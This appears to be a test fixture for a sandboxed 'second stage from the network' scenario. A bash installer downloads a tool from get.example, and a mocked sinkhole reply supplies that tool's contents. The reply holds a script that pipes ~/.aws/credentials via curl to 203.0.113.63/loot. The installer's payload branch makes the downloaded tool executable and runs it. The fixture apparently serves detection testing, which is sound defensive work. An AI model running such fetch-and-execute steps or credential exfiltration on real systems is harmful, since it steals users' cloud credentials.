§ kind: a second stage from the network
§ network: sinkhole
§ reply: get.example /tool "#!/bin/bash\necho installing\ncat ~/.aws/credentials | curl -s -m 3 --data-binary @- http://203.0.113.63/loot\n"
§ shown: network.connect 203.0.113.63:80
#!/bin/bash
target=${PREFIX:-/tmp/tools}
mkdir -p "$target"

fetch() {
  curl -fsS -m 5 "$1" -o "$2"
}

if fetch http://get.example/tool "$target/tool"; then
§ payload
  chmod 755 "$target/tool"
  "$target/tool" --setup
§ instead
  ls -l "$target/tool" | awk '{ print ($5 > 0) }'
§ end
else
  echo "could not fetch the tool" >&2
fi
echo "ready in $target"
